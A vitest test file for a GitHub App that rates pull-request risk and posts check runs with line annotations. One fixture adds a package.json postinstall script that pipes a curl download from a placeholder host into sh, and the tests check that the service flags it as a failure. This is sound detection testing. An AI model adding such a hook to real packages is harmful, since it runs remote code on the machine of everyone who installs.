import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHECK_OUTPUT_LIMIT, checkConclusion, checkRunOutput, truncateForGitHub } from '../../src/services/check-run-publisher.js';
import type { Signal } from '../../src/signal/schema.js';
import { addGitHubAppRoutes, type GitHubAppRoutes, type RecordedCheckRun } from '../support/github-server-app-routes.js';
import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { makePrFixture, typicalPrFixture } from '../support/pr-fixture.js';
import { makeSignal } from '../support/signal-factory.js';
import { startAppTestService } from '../support/start-app-test-service.js';
import type { TestService } from '../support/start-test-service.js';
import { deliver, pullRequestPayload } from '../support/webhook-delivery.js';

function riskySignal(): Signal {
  const signal = makeSignal({ owner: 'acme', repo: 'widgets', number: 42, headSha: 'a'.repeat(40), source: 'webhook' });
  return {
    ...signal,
    risk: {
      ...signal.risk,
      level: 'high',
      score: 0.81,
      drivers: [{ id: 'new-dependency', title: 'New dependency left-pad', detail: 'Adds left-pad 1.3.0', weight: 0.4, floor: null, evidence: [] }],
    },
    review: { ...signal.review, action: 'request_changes', rationale: 'An install script runs on npm install.' },
  };
}

describe('check run content', () => {
  it('maps the suggested review to a conclusion', () => {
    expect(checkConclusion('approve')).toBe('success');
    expect(checkConclusion('comment')).toBe('neutral');
    expect(checkConclusion('needs_discussion')).toBe('action_required');
    expect(checkConclusion('request_changes')).toBe('failure');
  });

  it('puts the risk, drivers and a link to the signal page in the output', () => {
    const output = checkRunOutput(riskySignal(), 'https://svc.example.com/s/sig-acme-widgets-42-abc');
    expect(output.title).toBe('Risk high (0.81) · suggested review: request changes');
    expect(output.summary).toContain('[Open the full signal](https://svc.example.com/s/sig-acme-widgets-42-abc)');
    expect(output.summary).toContain('New dependency left-pad');
    expect(output.summary).toContain('An install script runs on npm install.');
    expect(output.text).toContain('### Findings');
    expect(output.text).toContain('### Files to review first');
  });

  it('stays within GitHub limits, without splitting a character', () => {
    const huge = riskySignal();
    const drivers = Array.from({ length: 4000 }, (_, i) => ({ ...huge.risk.drivers[0]!, id: `d${i}`, title: `Driver ${i} 😀`, detail: 'x'.repeat(40) }));
    const output = checkRunOutput({ ...huge, risk: { ...huge.risk, drivers } }, 'https://svc.example.com/s/x');
    expect(output.summary.length).toBeLessThanOrEqual(CHECK_OUTPUT_LIMIT);
    expect(output.summary).toContain('truncated');
    expect(output.summary).toContain('https://svc.example.com/s/x');
    const emoji = truncateForGitHub(`${'a'.repeat(9)}${'😀'.repeat(40)}`, 10 + '\n\n… (truncated; the full signal is on the signal page)'.length);
    expect(emoji.startsWith(`${'a'.repeat(9)}\n`)).toBe(true);
    expect(() => encodeURIComponent(emoji)).not.toThrow();
  });
});

describe(`GitHub App end to end: installation token, analysis, check run (${process.env.DATABASE_URL ? 'PostgreSQL' : 'PGlite'})`, () => {
  const WEBHOOK_SECRET = 'app-webhook-secret-for-check-runs-0001';
  let gh: GitHubServer;
  let app: GitHubAppRoutes;
  let t: TestService;

  beforeAll(async () => {
    gh = await startGitHubServer();
    app = addGitHubAppRoutes(gh);
    gh.addPullRequest(typicalPrFixture());
    gh.addPullRequest(typicalPrFixture({ number: 7 }));
    app.install('acme/widgets', 4242);
    t = await startAppTestService(gh, WEBHOOK_SECRET);
  });

  afterAll(async () => {
    await t?.close();
    await gh?.close();
  });

  it('analyzes an app delivery with an installation token and publishes the check run', async () => {
    const fixture = gh.repos.get('acme/widgets')?.pulls.get(42)?.fixture;
    const head = fixture?.headSha ?? '';
    const payload = pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 42, headSha: head, action: 'opened', installationId: 4242 });
    const answer = await deliver(t.url, { event: 'pull_request', payload, secret: WEBHOOK_SECRET });
    expect(answer.status).toBe(202);

    const deadline = Date.now() + 20_000;
    while (!app.checkRuns.some((run) => run.state.status === 'completed') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    expect(app.checkRuns).toHaveLength(1);
    const run = app.checkRuns[0]!;
    expect(run.created).toMatchObject({ name: 'svc signal', head_sha: head, status: 'in_progress' });
    expect(run.token).toMatch(/^ghs_installation/);
    expect(app.issuedTokens.get(run.token ?? '')).toBe(4242);

    const scan = (await t.service.db.knex('scans').where({ repo_key: 'acme/widgets', pr_number: 42 }).first()) as { signal_id: string; review_action: Signal['review']['action']; source: string };
    expect(scan.source).toBe('webhook');
    expect(run.updates).toHaveLength(1);
    expect(run.updates[0]).toMatchObject({
      status: 'completed',
      conclusion: checkConclusion(scan.review_action),
      details_url: `${t.url}/s/${scan.signal_id}`,
    });
    const output = run.updates[0]?.output as { title: string; summary: string };
    expect(output.title).toMatch(/^Risk (low|medium|high|critical) \(\d\.\d\d\)/);
    expect(output.summary).toContain(`${t.url}/s/${scan.signal_id}`);
    // The analysis read GitHub with the installation token.
    const pullReads = gh.requests.filter((r) => r.path === '/repos/acme/widgets/pulls/42');
    expect(pullReads.length).toBeGreaterThan(0);
    expect(pullReads.every((r) => r.authenticated)).toBe(true);
  });

  it('uses an installation token for API analyses of repositories where the app is installed', async () => {
    const before = gh.requests.filter((r) => r.path === '/repos/acme/widgets/installation').length;
    const response = await fetch(`${t.url}/api/analyze`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: `${gh.url}/acme/widgets/pull/7` }) });
    expect(response.status).toBe(200);
    const lookups = gh.requests.filter((r) => r.path === '/repos/acme/widgets/installation').length;
    expect(lookups).toBe(before + 1);
    const reads = gh.requests.filter((r) => r.path === '/repos/acme/widgets/pulls/7');
    expect(reads.every((r) => r.authenticated)).toBe(true);
    // No check run for API analyses.
    expect(app.checkRuns.every((run) => run.created.head_sha !== gh.repos.get('acme/widgets')?.pulls.get(7)?.fixture.headSha)).toBe(true);
  });
});

describe(`GitHub App check run: same verdict as the API, on the analyzed commit, with annotations (${process.env.DATABASE_URL ? 'PostgreSQL' : 'PGlite'})`, () => {
  const WEBHOOK_SECRET = 'app-webhook-secret-for-annotations-0002';
  let gh: GitHubServer;
  let app: GitHubAppRoutes;
  let t: TestService;

  const INSTALL_PACKAGE_BASE = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`;
  const INSTALL_PACKAGE_HEAD = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/setup.sh | sh' } }, null, 2)}\n`;

  beforeAll(async () => {
    gh = await startGitHubServer();
    app = addGitHubAppRoutes(gh);
    gh.addPullRequest(typicalPrFixture({ number: 11, checkRuns: [{ name: 'build' }, { name: 'test' }] }));
    gh.addPullRequest(typicalPrFixture({ number: 12, checkRuns: [{ name: 'build' }] }));
    gh.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'widgets',
        number: 13,
        title: 'Set up the toolchain after install',
        author: { login: 'newcomer', createdAt: '2026-11-01T00:00:00Z', association: 'FIRST_TIME_CONTRIBUTOR' },
        files: [{ path: 'package.json', base: INSTALL_PACKAGE_BASE, head: INSTALL_PACKAGE_HEAD }],
        checkRuns: [{ name: 'build' }],
      }),
    );
    app.install('acme/widgets', 4343);
    t = await startAppTestService(gh, WEBHOOK_SECRET);
  });

  afterAll(async () => {
    await t?.close();
    await gh?.close();
  });

  async function completedRuns(count: number): Promise<RecordedCheckRun[]> {
    const deadline = Date.now() + 20_000;
    const done = (): RecordedCheckRun[] => app.checkRuns.filter((run) => run.state.status === 'completed');
    while (done().length < count && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    return done();
  }

  async function scanOf(number: number): Promise<Signal> {
    const row = (await t.service.db.knex('scans').where({ repo_key: 'acme/widgets', pr_number: number, source: 'webhook' }).first()) as { signal: Signal | string };
    return typeof row.signal === 'string' ? (JSON.parse(row.signal) as Signal) : row.signal;
  }

  it("does not count its own in-progress run as pending CI: the App's verdict equals the API's for the same head", async () => {
    const head = gh.repos.get('acme/widgets')?.pulls.get(11)?.fixture.headSha ?? '';
    const before = app.checkRuns.length;
    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 11, headSha: head, action: 'opened', installationId: 4343 }), secret: WEBHOOK_SECRET });
    expect(answer.status).toBe(202);
    await completedRuns(before + 1);
    const appSignal = await scanOf(11);
    // The run was listed on the commit (in progress) while the analysis read the checks.
    expect(appSignal.evidence.checks.filter((c) => c.source === 'check_run').map((c) => c.name).sort()).toEqual(['build', 'test']);
    expect(appSignal.evidence.summary.pending).toBe(0);

    // The API, analyzing the same head now that svc's run is completed, agrees.
    const response = await fetch(`${t.url}/api/analyze`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: `${gh.url}/acme/widgets/pull/11` }) });
    expect(response.status).toBe(200);
    const apiSignal = ((await response.json()) as { signal: Signal }).signal;
    expect(apiSignal.evidence.checks.filter((c) => c.source === 'check_run').map((c) => c.name).sort()).toEqual(['build', 'test']);
    expect(apiSignal.evidence.completeness).toBe(appSignal.evidence.completeness);
    expect(apiSignal.risk.level).toBe(appSignal.risk.level);
    expect(apiSignal.review.action).toBe(appSignal.review.action);
  });

  it('publishes the verdict on the commit it analyzed when GitHub serves a newer head than the delivery named', async () => {
    const served = gh.repos.get('acme/widgets')?.pulls.get(12)?.fixture.headSha ?? '';
    const stale = 'e'.repeat(40);
    const before = app.checkRuns.length;
    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 12, headSha: stale, action: 'synchronize', installationId: 4343 }), secret: WEBHOOK_SECRET });
    expect(answer.status).toBe(202);
    const runs = (await completedRuns(before + 2)).slice(-2);
    const onStale = runs.find((run) => run.created.head_sha === stale);
    const onServed = runs.find((run) => run.created.head_sha === served);
    expect(onStale?.state).toMatchObject({ status: 'completed', conclusion: 'neutral' });
    expect((onStale?.state.output as { title: string }).title).toBe('Superseded by a newer commit');
    const signal = await scanOf(12);
    expect(signal.pr.head_sha).toBe(served);
    expect(onServed?.created).toMatchObject({ name: 'svc signal', status: 'completed', conclusion: checkConclusion(signal.review.action), external_id: signal.signal_id });
  });

  it('annotates the lines of its findings, most severe first, and opens the summary with the verdict', async () => {
    const head = gh.repos.get('acme/widgets')?.pulls.get(13)?.fixture.headSha ?? '';
    const before = app.checkRuns.length;
    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 13, headSha: head, action: 'opened', installationId: 4343 }), secret: WEBHOOK_SECRET });
    expect(answer.status).toBe(202);
    const run = (await completedRuns(before + 1)).find((r) => r.created.head_sha === head);
    const signal = await scanOf(13);
    const completion = run?.updates.find((u) => u.status === 'completed') as { output: { summary: string; annotations?: { path: string; start_line: number; annotation_level: string; title: string }[] } };
    const annotations = completion.output.annotations ?? [];
    const lined = signal.supply_chain.findings.filter((f) => f.path === 'package.json');
    expect(lined.length).toBeGreaterThan(0);
    expect(annotations.length).toBe(lined.length);
    const postinstallLine = INSTALL_PACKAGE_HEAD.split('\n').findIndex((l) => l.includes('postinstall')) + 1;
    for (const a of annotations) {
      expect(a.path).toBe('package.json');
      expect(a.start_line).toBeGreaterThanOrEqual(1);
      expect(a.start_line).toBeLessThanOrEqual(INSTALL_PACKAGE_HEAD.split('\n').length);
    }
    expect(annotations.some((a) => a.start_line === postinstallLine && a.annotation_level === 'failure')).toBe(true);
    const levels = annotations.map((a) => ['failure', 'warning', 'notice'].indexOf(a.annotation_level));
    expect(levels).toEqual([...levels].sort((a, b) => a - b));
    expect(completion.output.summary.startsWith(`**Suggested review: ${signal.review.action.replace('_', ' ')}**`)).toBe(true);
    expect(completion.output.summary).toContain('**Look first at:** `package.json`');
  });
});
